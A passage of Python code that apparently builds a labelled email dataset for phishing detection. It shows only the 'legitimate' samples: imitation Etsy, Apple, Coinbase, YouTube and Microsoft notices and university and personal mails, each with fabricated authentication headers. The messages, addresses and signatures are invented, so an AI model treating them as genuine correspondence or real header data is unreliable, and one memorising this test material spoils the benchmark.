    html = html_page(f"""<body style="margin:0;background:#ffffff;">
<table width="100%" cellpadding="0" cellspacing="0" border="0"><tr><td align="center">
<table width="560" cellpadding="0" cellspacing="0" border="0" style="font-family:'Graphik Webfont',-apple-system,'Helvetica Neue',Helvetica,Arial,sans-serif;color:#222222;">
<tr><td style="padding:24px 0;"><img src="https://www.etsy.com/images/email/guidelines/logo-etsy-orange@2x.png" width="64" alt="Etsy" /></td></tr>
<tr><td style="font-size:26px;font-family:Georgia,serif;padding-bottom:10px;">You made a sale!</td></tr>
<tr><td style="font-size:15px;line-height:22px;">Congratulations, WildFernPrints! <b>Hannah L.</b> bought from your shop.<br /><br />
Ship by <b>Oct 24</b> to keep your shop in good standing.</td></tr>
<tr><td style="padding:16px 0;"><table width="100%" cellpadding="8" cellspacing="0" border="0" style="border:1px solid #e1e3df;font-size:14px;">
<tr><td>Botanical Fern Print Set of 3, A4</td><td align="right">$38.00</td></tr>
<tr><td>Shipping</td><td align="right">$4.00</td></tr>
<tr><td><b>Order total</b></td><td align="right"><b>$42.00</b></td></tr>
</table></td></tr>
<tr><td style="padding:8px 0 24px 0;"><a href="https://www.etsy.com/your/orders/sold?order_id={order}" style="background:#222222;color:#ffffff;padding:12px 22px;border-radius:24px;text-decoration:none;font-weight:bold;">View order</a></td></tr>
<tr><td style="font-size:12px;color:#595959;padding:16px 0;border-top:1px solid #e1e3df;">Payment was processed through Etsy Payments. Funds will be available in your <a href="https://www.etsy.com/your/account/payments" style="color:#595959;">Payment account</a> after the order ships.<br />Etsy, Inc., 117 Adams Street, Brooklyn, NY 11201</td></tr>
</table></td></tr></table></body>""", "Etsy")
    plain = (f"You made a sale!\n\nCongratulations, WildFernPrints! Hannah L. bought from your shop.\nShip by Oct 24.\n\n"
             f"Botanical Fern Print Set of 3, A4  $38.00\nShipping  $4.00\nOrder total  $42.00\n\nView order: "
             f"https://www.etsy.com/your/orders/sold?order_id={order}\n\nEtsy, Inc., 117 Adams Street, Brooklyn, NY 11201\n")
    headers = [
        f"Received: from etsy.com (localhost [127.0.0.1])\n\tby {a.helo} (Postfix) with ESMTP id 4cb{rnd(seed + 'q', 7)}\n"
        f"\tfor <{rcpt}>; {rfc(plus(when, -1), '-0400')}",
        dkim("etsy.com", "etsy2023", seed, when, h="From:To:Subject:Date:Message-ID:MIME-Version:Content-Type"),
        "From: Etsy <transaction@etsy.com>",
        f"To: {rcpt}",
        f"Subject: You made a sale on Etsy - Ship by Oct 24 - [$42.00, Order #{order}]",
        f"Date: {rfc(when, '-0400')}",
        f"Message-ID: <{hx(seed + 'mid', 24)}.transaction@etsy.com>",
        "MIME-Version: 1.0",
        "X-Etsy-Email-Type: sold_order",
    ]
    body = Multi("alternative", f"=_{hx(seed + 'b', 32)}", [text(plain), text(html, "html")])
    return message(hdr(deliver(rcpt, plus(when, 2), a), headers), body)


@sample("clean", "legit", "apple-icloud-plus-receipt",
        "Genuine Apple receipt for an iCloud+ 50 GB monthly plan from no_reply@email.apple.com (Apple's servers, "
        "DKIM/DMARC pass, BIMI), the real counterpart of the storage-full lures.")
def apple_receipt():
    seed = "b31-l-apple"
    when = utc("2025-05-11 02:12:48")
    rcpt = "sofia.benitez@icloud.com"
    ip = f"17.179.{num(seed + 'ip', 250, 253)}.{num(seed + 'ip2', 10, 250)}"
    a = Auth(ip, f"rn2-txn-msbadger0{num(seed + 'h', 4100, 4199)}.apple.com", "no_reply@email.apple.com", "pass",
             [("email.apple.com", "email0517", "pass")], "pass", "reject", "email.apple.com", seed)
    html = html_page("""<body style="margin:0;background:#ffffff;">
<table width="100%" cellpadding="0" cellspacing="0" border="0"><tr><td align="center">
<table width="640" cellpadding="0" cellspacing="0" border="0" style="font-family:-apple-system,'SF Pro Text','Helvetica Neue',Helvetica,Arial,sans-serif;color:#1d1d1f;">
<tr><td style="padding:30px 0 10px 0;"><img src="https://www.apple.com/email/images/apple_logo.png" width="26" alt="Apple" /></td></tr>
<tr><td style="font-size:32px;font-weight:600;padding:10px 0 20px 0;">Receipt</td></tr>
<tr><td><table width="100%" cellpadding="6" cellspacing="0" border="0" style="font-size:12px;color:#333333;background:#f5f5f7;border-radius:8px;">
<tr><td><b>APPLE ACCOUNT</b><br />sofia.benitez@icloud.com</td><td><b>DATE</b><br />May 10, 2025</td><td><b>ORDER ID</b><br />MT8QX2L4VR</td><td><b>DOCUMENT NO.</b><br />192084517733</td></tr>
</table></td></tr>
<tr><td style="padding:20px 0;"><table width="100%" cellpadding="6" cellspacing="0" border="0" style="font-size:13px;">
<tr><td><b>iCloud+ with 50 GB of storage</b><br />iCloud+ 50 GB (Monthly)<br />Renews June 10, 2025</td><td align="right">$0.99</td></tr>
<tr><td style="border-top:1px solid #d2d2d7;">Subtotal</td><td align="right" style="border-top:1px solid #d2d2d7;">$0.99</td></tr>
<tr><td>Tax</td><td align="right">$0.09</td></tr>
<tr><td><b>TOTAL</b></td><td align="right"><b>$1.08</b></td></tr>
</table></td></tr>
<tr><td style="font-size:12px;color:#6e6e73;line-height:18px;padding:10px 0;">Billed to Apple Pay (Visa &bull;&bull;&bull;&bull; 4821).<br />
You can manage subscriptions or cancel at any time in <a href="https://apps.apple.com/account/subscriptions" style="color:#0070c9;">Account Settings</a>. If you have questions about your bill, visit <a href="https://support.apple.com/billing" style="color:#0070c9;">Apple Support</a>.</td></tr>
<tr><td style="font-size:11px;color:#86868b;padding:20px 0;border-top:1px solid #d2d2d7;"><a href="https://www.apple.com/legal/privacy/" style="color:#86868b;">Privacy Policy</a> &bull; <a href="https://www.apple.com/legal/internet-services/itunes/" style="color:#86868b;">Terms of Sale</a><br />Copyright &copy; 2025 Apple Inc. One Apple Park Way, Cupertino, CA 95014, United States. All rights reserved.</td></tr>
</table></td></tr></table></body>""", "Your receipt from Apple.")
    plain = ("Receipt\n\nAPPLE ACCOUNT: sofia.benitez@icloud.com\nDATE: May 10, 2025\nORDER ID: MT8QX2L4VR\n\n"
             "iCloud+ with 50 GB of storage - iCloud+ 50 GB (Monthly) - Renews June 10, 2025   $0.99\nTax $0.09\nTOTAL $1.08\n\n"
             "Manage subscriptions: https://apps.apple.com/account/subscriptions\n\nCopyright 2025 Apple Inc.\n")
    headers = [
        f"Received: from rn2-txn-mgwy.apple.com by {a.helo}\n\t(Oracle Communications Messaging Server 8.1.0.22.20240731 64bit (built Jul 31 2024))\n"
        f"\twith ESMTP id <0S{rnd(seed + 'q', 12).upper()}@{a.helo}> for {rcpt};\n\t{rfc(plus(when, -1))}",
        dkim("email.apple.com", "email0517", seed, when, h="Date:From:To:Message-ID:Subject:Content-Type:MIME-Version"),
        f"Date: {rfc(when)}",
        "From: Apple <no_reply@email.apple.com>",
        f"To: {rcpt}",
        f"Message-ID: <{uuid(seed + 'mid').upper()}@email.apple.com>",
        "Subject: Your receipt from Apple.",
        "MIME-Version: 1.0",
        "x-ms-reqid: 192084517733",
        "X-Email-Type-Id: 3005",
        "X-Proofpoint-ORIG-GUID: " + rnd(seed + 'pp', 32),
    ]
    body = Multi("alternative", f"----=_Part_{num(seed + 'p', 100000, 999999)}_{num(seed + 'p2', 10**8, 10**9)}.{int(when.timestamp()) * 1000}",
                 [text(plain), text(html, "html")])
    return message(hdr(deliver(rcpt, plus(when, 2), a, bimi="pass"), headers), body)


@sample("clean", "legit", "coinbase-new-device-confirmation",
        "Genuine Coinbase 'new device sign-in' confirmation from no-reply@coinbase.com via SendGrid (coinbase.com "
        "DKIM/DMARC pass), links only to coinbase.com and its help center.")
def coinbase_real():
    seed = "b31-l-coinbase"
    when = utc("2025-05-31 17:26:33")
    rcpt = "danielle.ford88@outlook.com"
    ip, helo, sg = sendgrid_hops(seed, when, "o7.email.coinbase.com")
    mf = f"bounces+2810032-d41c-{rcpt.replace('@', '=')}@email.coinbase.com"
    a = Auth(ip, helo, mf, "pass", [("coinbase.com", "s1", "pass")], "pass", "reject", "coinbase.com", seed)
    html = html_page("""<body style="margin:0;background:#ffffff;">
<table width="100%" cellpadding="0" cellspacing="0" border="0"><tr><td align="center">
<table width="540" cellpadding="0" cellspacing="0" border="0" style="font-family:'Coinbase Sans',-apple-system,Helvetica,Arial,sans-serif;color:#0a0b0d;">
<tr><td style="padding:32px 0 20px 0;"><img src="https://static-assets.coinbase.com/email/logos/coinbase-blue.png" width="110" alt="Coinbase" /></td></tr>
<tr><td style="font-size:24px;font-weight:bold;padding-bottom:14px;">New sign-in to your account</td></tr>
<tr><td style="font-size:15px;line-height:23px;color:#5b616e;">We noticed a new sign-in to your Coinbase account.<br /><br />
<b>Device:</b> iPhone &middot; Coinbase app<br /><b>Location:</b> Columbus, Ohio, US<br /><b>Time:</b> May 31, 2025, 1:24 PM EDT<br /><br />
If this was you, there's nothing else you need to do.<br /><br />
If this wasn't you, open the Coinbase app or go to <a href="https://www.coinbase.com/settings/security" style="color:#0052ff;">coinbase.com/settings/security</a> to lock your account. Coinbase will never call you or ask you to move funds to a "safe" wallet.</td></tr>
<tr><td style="font-size:12px;color:#8a919e;padding:30px 0;border-top:1px solid #eef0f3;margin-top:20px;">Need help? Visit <a href="https://help.coinbase.com/" style="color:#0052ff;">help.coinbase.com</a><br />Coinbase, Inc. &middot; 248 3rd St #434, Oakland, CA 94607</td></tr>
</table></td></tr></table></body>""", "Coinbase")
    plain = ("New sign-in to your account\n\nWe noticed a new sign-in to your Coinbase account.\n\nDevice: iPhone - Coinbase "
             "app\nLocation: Columbus, Ohio, US\nTime: May 31, 2025, 1:24 PM EDT\n\nIf this was you, there's nothing else you "
             "need to do.\nIf this wasn't you, go to https://www.coinbase.com/settings/security to lock your account.\n\n"
             "Coinbase will never call you or ask you to move funds to a \"safe\" wallet.\n\nhttps://help.coinbase.com/\n")
    headers = [
        *sg,
        dkim("coinbase.com", "s1", seed, when, h="content-type:from:mime-version:subject:to:cc:content-type:from:subject:to"),
        f"Date: {rfc(when)}",
        "From: Coinbase <no-reply@coinbase.com>",
        "Mime-Version: 1.0",
        f"Message-ID: {sg_msgid(seed)}",
        "Subject: New sign-in to your Coinbase account",
        f"X-SG-EID:\n =?us-ascii?Q?{rnd(seed + 'eid', 60, B62)}?=",
        f"To: {rcpt}",
        "X-Entity-ID: u001.q1wqJH0W8s4qN6mHc2Gf3g==",
    ]
    body = alt(seed, plain, html, hx(seed + "bd", 64))
    return message(hdr(deliver(rcpt, plus(when, 2), a), headers), body)


@sample("clean", "legit", "youtube-copyright-claim-genuine",
        "Genuine YouTube Content ID claim notice from noreply@youtube.com sent by Google (DKIM/SPF/DMARC pass), "
        "pointing to studio.youtube.com - the real thing that copyright lures imitate.")
def youtube_claim():
    seed = "b31-l-youtube"
    when = utc("2025-08-21 11:09:27")
    rcpt = "samcrafts.yt@gmail.com"
    n = num(seed + "n", 41, 69)
    a = Auth(f"209.85.220.{n}", f"mail-sor-f{n}.google.com", f"3{rnd(seed + 'rp', 24)}@scoutcamp.bounces.google.com",
             "pass", [("youtube.com", "20230601", "pass")], "pass", "reject", "youtube.com", seed)
    vid = "q7LmX2rT9bE"
    html = html_page(f"""<body style="margin:0;background:#f9f9f9;">
<table width="100%" cellpadding="0" cellspacing="0" border="0"><tr><td align="center" style="padding:20px 0;">
<table width="600" cellpadding="0" cellspacing="0" border="0" style="background:#ffffff;font-family:Roboto,Arial,Helvetica,sans-serif;color:#0f0f0f;">
<tr><td style="padding:20px 24px;"><img src="https://www.gstatic.com/youtube/img/branding/youtubelogo/2x/youtubelogo_color_24dp.png" height="24" alt="YouTube" /></td></tr>
<tr><td style="padding:0 24px;font-size:20px;">Copyright claim on your video</td></tr>
<tr><td style="padding:16px 24px;font-size:14px;line-height:20px;">Hi SamCrafts,<br /><br />
Your video &ldquo;Building a Walnut Standing Desk (Start to Finish)&rdquo; may have content owned or licensed by <b>Epidemic Sound</b>. The claimed content is audio from 04:12 to 06:30.<br /><br />
<b>What this means:</b> Your video is still available on YouTube. The copyright owner has chosen to monetize the video, so ad revenue may be shared with them. No copyright strike was applied and your channel is not affected.<br /><br />
You can review the claim, remove the claimed segment or dispute the claim in YouTube Studio.</td></tr>
<tr><td style="padding:8px 24px 24px 24px;"><a href="https://studio.youtube.com/video/{vid}/copyright" style="background:#065fd4;color:#ffffff;padding:10px 16px;border-radius:18px;text-decoration:none;font-size:14px;">View in YouTube Studio</a></td></tr>
<tr><td style="padding:16px 24px;font-size:11px;color:#606060;border-top:1px solid #e5e5e5;">Learn more about <a href="https://support.google.com/youtube/answer/6013276" style="color:#065fd4;">Content ID claims</a>.<br />&copy; 2025 Google LLC, 1600 Amphitheatre Parkway, Mountain View, CA 94043</td></tr>
</table></td></tr></table></body>""", "YouTube")
    plain = ("Copyright claim on your video\n\nHi SamCrafts,\n\nYour video \"Building a Walnut Standing Desk (Start to Finish)\" "
             "may have content owned or licensed by Epidemic Sound. The claimed content is audio from 04:12 to 06:30.\n\n"
             "Your video is still available on YouTube. No copyright strike was applied.\n\nView in YouTube Studio: "
             f"https://studio.youtube.com/video/{vid}/copyright\n\n(c) 2025 Google LLC\n")
    ts = int(when.timestamp())
    headers = [
        f"Received: by mail-sor-f{n}.google.com with SMTP id {rnd(seed + 'sid', 19, 'abcdefghijklmnopqrstuvwxyz0123456789')}.{num(seed + 'x', 10, 99)}.{ts}\n"
        f"        for <{rcpt}>\n        (Google Transport Security);\n        {pacific(plus(when, -1))}",
        dkim("youtube.com", "20230601", seed, when, h="to:from:subject:message-id:feedback-id:date:mime-version",
             extra=f" x={ts + 604800}; darn=gmail.com;"),
        f"X-Google-Smtp-Source: AGHT+I{rnd(seed + 'src', 62, B64)}",
        "MIME-Version: 1.0",
        f"X-Received: by 2002:a05:{hx(seed + 'x1', 4)}:{hx(seed + 'x2', 4)}:b0:{hx(seed + 'x3', 3)} with SMTP id\n"
        f" {rnd(seed + 'x5', 19, 'abcdefghijklmnopqrstuvwxyz0123456789')}.{num(seed + 'x6', 10, 99)}.{ts}; {pacific(plus(when, -1))}",
        f"Date: {pacific(when)[:-6]}",
        f"X-Notifications: {hx(seed + 'xn', 16)}",
        f"X-Notifications-Bounce-Info: A{rnd(seed + 'nb', 60, B62 + '-_')}",
        f"Message-ID: <{rnd(seed + 'mid', 22, B62 + '-_')}@notifications.google.com>",
        "Subject: Copyright claim on your video",
        "From: YouTube <noreply@youtube.com>",
        f"To: {rcpt}",
        f"Feedback-ID: P-{num(seed + 'fb', 10, 99)}-0:C{num(seed + 'fb2', 10**7, 10**8)}:M{num(seed + 'fb3', 10**6, 10**7)}-en:gamma",
    ]
    body = Multi("alternative", f"000000000000{hx(seed + 'alt', 16)}", [text(plain), text(html, "html")])
    return message(hdr(deliver(rcpt, plus(when, 2), a, google_sender=True), headers), body)


@sample("clean", "legit", "microsoft-account-security-code",
        "Genuine 'Microsoft account security code' mail from account-security-noreply@accountprotection.microsoft.com "
        "(Microsoft's own servers, DKIM/DMARC pass) containing a one-time code the user requested; no action link.")
def microsoft_code():
    seed = "b31-l-mscode"
    when = utc("2025-02-08 22:40:16")
    rcpt = "ethan.carter2004@hotmail.com"
    dom = "accountprotection.microsoft.com"
    ip = f"40.92.{num(seed + 'ip', 18, 40)}.{num(seed + 'ip2', 10, 250)}"
    a = Auth(ip, f"BN8PR{num(seed + 'h', 10, 20)}CU001.outbound.protection.outlook.com", f"account-security-noreply@{dom}",
             "pass", [(dom, "selector1", "pass")], "pass", "reject", dom, seed)
    html = html_page("""<body>
<table dir="ltr"><tr><td id="i1" style="padding:0;font-family:'Segoe UI Semibold','Segoe UI Bold','Segoe UI','Helvetica Neue Medium',Arial,sans-serif;font-size:17px;color:#707070;">Microsoft account</td></tr>
<tr><td id="i2" style="padding:0;font-family:'Segoe UI Light','Segoe UI','Helvetica Neue Medium',Arial,sans-serif;font-size:41px;color:#2672ec;">Security code</td></tr>
<tr><td id="i3" style="padding:0;padding-top:25px;font-family:'Segoe UI',Tahoma,Verdana,Arial,sans-serif;font-size:14px;color:#2a2a2a;">Please use the following security code for the Microsoft account <a dir="ltr" id="iAccount" class="link" style="color:#2672ec;text-decoration:none;" href="mailto:et*****@hotmail.com">et*****@hotmail.com</a>.</td></tr>
<tr><td id="i4" style="padding:0;padding-top:25px;font-family:'Segoe UI',Tahoma,Verdana,Arial,sans-serif;font-size:14px;color:#2a2a2a;">Security code: <span style="font-family:'Segoe UI Bold','Segoe UI Semibold','Segoe UI','Helvetica Neue Medium',Arial,sans-serif;font-size:14px;font-weight:bold;color:#2a2a2a;">482917</span></td></tr>
<tr><td id="i5" style="padding:0;padding-top:25px;font-family:'Segoe UI',Tahoma,Verdana,Arial,sans-serif;font-size:14px;color:#2a2a2a;">If you don't recognize the Microsoft account <a dir="ltr" id="iAccount2" class="link" style="color:#2672ec;text-decoration:none;" href="mailto:et*****@hotmail.com">et*****@hotmail.com</a>, you can <a id="iLink2" class="link" style="color:#2672ec;text-decoration:none;" href="https://account.live.com/dp?ft=-DvZ2mK8qL">click here</a> to remove your email address from that account.</td></tr>
<tr><td id="i6" style="padding:0;padding-top:25px;font-family:'Segoe UI',Tahoma,Verdana,Arial,sans-serif;font-size:14px;color:#2a2a2a;">Thanks,</td></tr>
<tr><td id="i7" style="padding:0;font-family:'Segoe UI',Tahoma,Verdana,Arial,sans-serif;font-size:14px;color:#2a2a2a;">The Microsoft account team</td></tr>
</table></body>""", "")
    plain = ("Microsoft account\nSecurity code\n\nPlease use the following security code for the Microsoft account "
             "et*****@hotmail.com.\n\nSecurity code: 482917\n\nIf you don't recognize the Microsoft account "
             "et*****@hotmail.com, you can click this link to remove your email address from that account: "
             "https://account.live.com/dp?ft=-DvZ2mK8qL\n\nThanks,\nThe Microsoft account team\n")
    headers = [
        dkim(dom, "selector1", seed, when, h="From:Date:Subject:Message-ID:Content-Type:MIME-Version"),
        f"Received: from BN8PR{num(seed + 'h', 10, 20)}MB{num(seed + 'mb', 1000, 9999)}.namprd{num(seed + 'h', 10, 20)}.prod.outlook.com (2603:10b6:408:{hx(seed + 'v', 3)}::{num(seed + 'v2', 5, 20)})\n"
        f" by BN8PR{num(seed + 'h', 10, 20)}CU001.outbound.protection.outlook.com with Microsoft SMTP Server\n (version=TLS1_2, cipher=TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384) "
        f"id 15.20.8422.{num(seed + 'b', 10, 30)}; {rfc(plus(when, -1))}",
        f"Date: {rfc(when, '-0800')}",
        f"From: Microsoft account team <account-security-noreply@{dom}>",
        "Reply-To: no-reply@microsoft.com",
        f"To: {rcpt}",
        f"Message-ID: <{hx(seed + 'm', 6).upper()}.{hx(seed + 'm2', 16).upper()}.{num(seed + 'm3', 10**6, 10**7)}@mail.login.live.com>",
        "Subject: Microsoft account security code",
        "MIME-Version: 1.0",
        "X-MSAPipeline: MessageDispatcherEOP",
        "X-MSAMetaData: =?us-ascii?Q?" + rnd(seed + "msa", 40) + "?=",
    ]
    body = Multi("alternative", f"=_{hx(seed + 'b', 20).upper()}", [text(plain), text(html, "html")])
    return message(hdr(deliver(rcpt, plus(when, 2), a), headers), body)


# ============================================================================================
# legitimate: university, people, agencies
# ============================================================================================

@sample("clean", "legit", "ridgemont-its-mfa-change-notice",
        "Genuine internal notice from Ridgemont's IT Services mailbox (same tenant, internal) announcing the move to "
        "number-matching MFA, with links only to ridgemont.edu help pages and no request for credentials.")
def ridgemont_it_notice():
    seed = "b31-l-itnotice"
    when = utc("2025-08-14 15:00:41")
    rcpt = "aisha.rahman@my.ridgemont.edu"
    sender = "its-communications@ridgemont.edu"
    out, a, mid = ridgemont_internal(seed, when, sender)
    paras = [
        "<b>Changes to Microsoft Authenticator sign-in starting August 25</b>", "",
        "Dear students, faculty and staff,", "",
        "Starting <b>Monday, August 25</b>, Ridgemont will enable <i>number matching</i> for all Microsoft Authenticator "
        "sign-in requests. When you sign in to Outlook, Canvas or Workday, the sign-in screen will show a two-digit "
        "number that you enter in the Authenticator app.", "",
        "<b>You do not need to do anything now.</b> There is no re-enrollment and ITS will never ask you to scan a QR code "
        "from an email or to send us your password.", "",
        'More information and screenshots: <a href="https://its.ridgemont.edu/mfa/number-matching">its.ridgemont.edu/mfa/number-matching</a><br>'
        'Questions: <a href="https://its.ridgemont.edu/help">its.ridgemont.edu/help</a> or call the Service Desk at (614) 555-0142.', "",
        "Ridgemont Information Technology Services",
    ]
    plain = ("Changes to Microsoft Authenticator sign-in starting August 25\n\nDear students, faculty and staff,\n\nStarting "
             "Monday, August 25, Ridgemont will enable number matching for all Microsoft Authenticator sign-in requests.\n\n"
             "You do not need to do anything now. There is no re-enrollment and ITS will never ask you to scan a QR code from "
             "an email or to send us your password.\n\nMore information: https://its.ridgemont.edu/mfa/number-matching\n"
             "Questions: https://its.ridgemont.edu/help or (614) 555-0142\n\nRidgemont Information Technology Services\n")
    headers = [
        *out,
        f"From: Ridgemont ITS <{sender}>",
        f"To: Ridgemont ITS <{sender}>",
        "Subject: Changes to Microsoft Authenticator sign-in starting August 25",
        "Thread-Topic: Changes to Microsoft Authenticator sign-in starting August 25",
        f"Thread-Index: AdwNL{rnd(seed + 'ti', 23, B64)}==",
        f"Date: {rfc(when)}",
        f"Message-ID: {mid}",
        *ms_tail(seed, "ridgemont.edu"),
        "MIME-Version: 1.0",
    ]
    body = Multi("alternative", f"_000_{mid[1:].split('@')[0]}_", [text(plain), text(outlook_html(paras), "html")])
    return message(hdr(deliver(rcpt, plus(when, 1), a, internal=True), headers), body)


@sample("clean", "legit", "clase-so2-google-groups-es",
        "Spanish class mailing list message (Google Groups of the university's Workspace) from the professor about the "
        "operating-systems lab schedule, with list headers and a link to the university's Moodle.")
def class_list_es():
    seed = "b31-l-so2"
    when = utc("2025-10-14 07:52:19")
    rcpt = "diego.ramirez@alumnos.uvc.es"
    prof = "jmartin@uvc.es"
    group = "so2-2025@alumnos.uvc.es"
    n = num(seed + "n", 41, 69)
    mf = f"so2-2025+bncBDL{rnd(seed + 'bnc', 40, B62)}@alumnos.uvc.es"
    a = Auth(f"209.85.220.{n}", f"mail-sor-f{n}.google.com", mf, "pass",
             [("alumnos.uvc.es", "google", "pass"), ("uvc.es", "google", "pass")], "pass", "quarantine", "uvc.es", seed)
    paras = [
        "Buenos días a todos:", "",
        "Os recuerdo que esta semana <b>no hay laboratorio el jueves 16</b> por la jornada de puertas abiertas. La sesión "
        "de la práctica 3 (planificación de procesos) se recupera el <b>lunes 20 de 15:00 a 17:00 en el laboratorio L2.4</b>.", "",
        'El enunciado actualizado y el código base están en el aula virtual: '
        '<a href="https://aulavirtual.uvc.es/course/view.php?id=18342">https://aulavirtual.uvc.es/course/view.php?id=18342</a>', "",
        "La entrega sigue siendo el 3 de noviembre a las 23:59.", "",
        "Un saludo,", "Javier Martín", "Dpto. de Arquitectura y Tecnología de Computadores",
    ]
    html = gmail_html(paras) + ('<p></p>\n\n-- <br />\nHas recibido este mensaje porque estás suscrito al grupo "SO2 2025-26" '
                                'de Grupos de Google.<br />\nPara cancelar la suscripción a este grupo y dejar de recibir sus '
                                'mensajes, envía un correo electrónico a <a href="mailto:so2-2025+unsubscribe@alumnos.uvc.es">'
                                'so2-2025+unsubscribe@alumnos.uvc.es</a>.<br />\n')
    plain = ("Buenos días a todos:\n\nOs recuerdo que esta semana no hay laboratorio el jueves 16 por la jornada de puertas "
             "abiertas. La sesión de la práctica 3 se recupera el lunes 20 de 15:00 a 17:00 en el laboratorio L2.4.\n\n"
             "El enunciado actualizado y el código base están en el aula virtual:\n"
             "https://aulavirtual.uvc.es/course/view.php?id=18342\n\nLa entrega sigue siendo el 3 de noviembre a las 23:59.\n\n"
             "Un saludo,\nJavier Martín\nDpto. de Arquitectura y Tecnología de Computadores\n\n-- \nHas recibido este mensaje "
             "porque estás suscrito al grupo \"SO2 2025-26\" de Grupos de Google.\nPara cancelar la suscripción, envía un "
             "correo electrónico a so2-2025+unsubscribe@alumnos.uvc.es.\n")
    ts = int(when.timestamp())
    headers = [
        f"Received: by mail-sor-f{n}.google.com with SMTP id {rnd(seed + 'sid', 19, 'abcdefghijklmnopqrstuvwxyz0123456789')}.{num(seed + 'x', 10, 99)}.{ts}\n"
        f"        for <{rcpt}>\n        (Google Transport Security);\n        {pacific(plus(when, -1))}",
        dkim("alumnos.uvc.es", "google", seed + "grp", when,
             h="list-unsubscribe:list-subscribe:list-archive:list-help:list-post:list-id:mailing-list:precedence:"
               "x-original-authentication-results:x-original-sender:to:subject:message-id:date:from:mime-version:sender",
             extra=f" x={ts + 604800}; darn=alumnos.uvc.es;"),
        dkim("uvc.es", "google", seed, when, h="mime-version:from:date:message-id:subject:to",
             extra=f" x={ts + 604800}; darn=alumnos.uvc.es;"),
        "X-Forwarded-Encrypted: i=1; AJvYcC" + rnd(seed + 'fe', 60, B64),
        f"X-Google-Smtp-Source: AGHT+I{rnd(seed + 'src', 62, B64)}",
        f"Sender: {group}",
        "MIME-Version: 1.0",
        f"From: =?UTF-8?Q?Javier_Mart=C3=ADn?= <{prof}>",
        f"Date: {rfc(when, '+0200')}",
        f"Message-ID: {gmail_msgid(seed)}",
        f"Subject: {enc('[SO2] Cambio de sesión de laboratorio - práctica 3')}",
        f"To: SO2 2025-26 <{group}>",
        f"X-Original-Sender: {prof}",
        f"X-Original-Authentication-Results: mx.google.com;       dkim=pass header.i=@uvc.es header.s=google header.b={dkim_b('uvc.es', 'google', seed)[:8]};\n"
        f"       spf=pass (google.com: domain of {prof} designates 209.85.220.41 as permitted sender) smtp.mailfrom={prof};\n"
        "       dmarc=pass (p=QUARANTINE sp=QUARANTINE dis=NONE) header.from=uvc.es",
        "Precedence: list",
        f"Mailing-list: list {group}; contact so2-2025+owners@alumnos.uvc.es",
        "List-ID: <so2-2025.alumnos.uvc.es>",
        f"X-Spam-Checked-In-Group: {group}",
        f"X-Google-Group-Id: {num(seed + 'gid', 10**11, 10**12)}",
        f"List-Post: <https://groups.google.com/a/alumnos.uvc.es/group/so2-2025/post>, <mailto:{group}>",
        "List-Help: <https://support.google.com/a/alumnos.uvc.es/bin/topic.py?topic=25838>,\n <mailto:so2-2025+help@alumnos.uvc.es>",
        "List-Archive: <https://groups.google.com/a/alumnos.uvc.es/group/so2-2025/>",
        "List-Unsubscribe: <mailto:googlegroups-manage+" + str(num(seed + 'gid', 10**11, 10**12)) + "+unsubscribe@googlegroups.com>,\n"
        " <https://groups.google.com/a/alumnos.uvc.es/group/so2-2025/subscribe>",
    ]
    return message(hdr(deliver(rcpt, plus(when, 1), a, google_sender=True), headers), alt(seed, plain, html))


@sample("clean", "legit", "agency-sponsorship-inquiry",
        "Real sponsorship inquiry to a streamer from a talent/influencer agency on Google Workspace (its domain passes), "
        "asking for rates and a media kit, with links only to the agency's site and a scheduling page, nothing to "
        "download or install.")
def agency_inquiry():
    seed = "b31-l-agency"
    when = utc("2025-06-10 16:12:55")
    rcpt = "nox.plays@proton.me"
    sender = "olivia.grant@brightreachtalent.com"
    out, a = workspace_out(seed, when, rcpt, sender)
    paras = [
        "Hi Nox,", "",
        "I hope you're doing well! I'm Olivia, a campaign manager at BrightReach, an influencer marketing agency based "
        "in Austin. We run creator programs for gaming and tech brands.", "",
        "One of our clients, a gaming peripherals brand, is planning a Q3 Twitch campaign around a new wireless headset "
        "and your channel came up in our shortlist (we liked your Valorant VOD reviews a lot).", "",
        "The campaign would be:<br>- 2 sponsored streams (min. 2 hours each) between Aug 4 and Aug 29<br>- a product "
        "segment of ~5 minutes per stream plus a !headset chat command<br>- product shipped to you in advance, yours to keep", "",
        "Could you share your rates for this scope, your average CCV over the last 90 days and your media kit if you have one? "
        "Once we have that, I'll send the brief and the brand name under NDA.", "",
        "If it's easier to talk, feel free to grab a slot here: "
        '<a href="https://calendly.com/olivia-brightreach/20min">calendly.com/olivia-brightreach/20min</a>', "",
        "Thanks and talk soon,", "",
        "--", "Olivia Grant", "Campaign Manager | BrightReach Talent",
        '<a href="https://brightreachtalent.com">brightreachtalent.com</a> | +1 (512) 555-0187',
    ]
    plain = ("Hi Nox,\n\nI hope you're doing well! I'm Olivia, a campaign manager at BrightReach, an influencer marketing "
             "agency based in Austin. We run creator programs for gaming and tech brands.\n\nOne of our clients, a gaming "
             "peripherals brand, is planning a Q3 Twitch campaign around a new wireless headset and your channel came up in "
             "our shortlist.\n\nThe campaign would be:\n- 2 sponsored streams (min. 2 hours each) between Aug 4 and Aug 29\n"
             "- a product segment of ~5 minutes per stream plus a !headset chat command\n- product shipped to you in advance\n\n"
             "Could you share your rates for this scope, your average CCV over the last 90 days and your media kit if you "
             "have one? Once we have that, I'll send the brief and the brand name under NDA.\n\nIf it's easier to talk: "
             "https://calendly.com/olivia-brightreach/20min\n\nThanks and talk soon,\n\n--\nOlivia Grant\nCampaign Manager | "
             "BrightReach Talent\nbrightreachtalent.com | +1 (512) 555-0187\n")
    headers = [
        *out,
        "MIME-Version: 1.0",
        f"From: Olivia Grant <{sender}>",
        f"Date: {rfc(plus(when, -2), '-0500')}",
        f"Message-ID: {gmail_msgid(seed)}",
        "Subject: Sponsored stream opportunity - gaming headset campaign (Aug)",
        f"To: {rcpt}",
    ]
    return message(hdr(deliver(rcpt, plus(when, 2), a), headers), alt(seed, plain, gmail_html(paras)))


@sample("clean", "legit", "amiga-fotos-viagem-pt",
        "Personal Portuguese mail between two friends' Gmail accounts sent from the iPhone app, sharing a holiday photo "
        "as a JPEG attachment.")
def personal_pt():
    seed = "b31-l-amiga"
    when = utc("2025-01-06 22:31:40")
    rcpt = "mari.souza.art@gmail.com"
    sender = "bia.albuquerque.rj@gmail.com"
    out, a = gmail_out(seed, when, rcpt, sender)
    msg = ("Mari!! Olha a foto que eu te falei da praia em Ilhabela 😍 ficou linda né? Acho que dá uma ilustração "
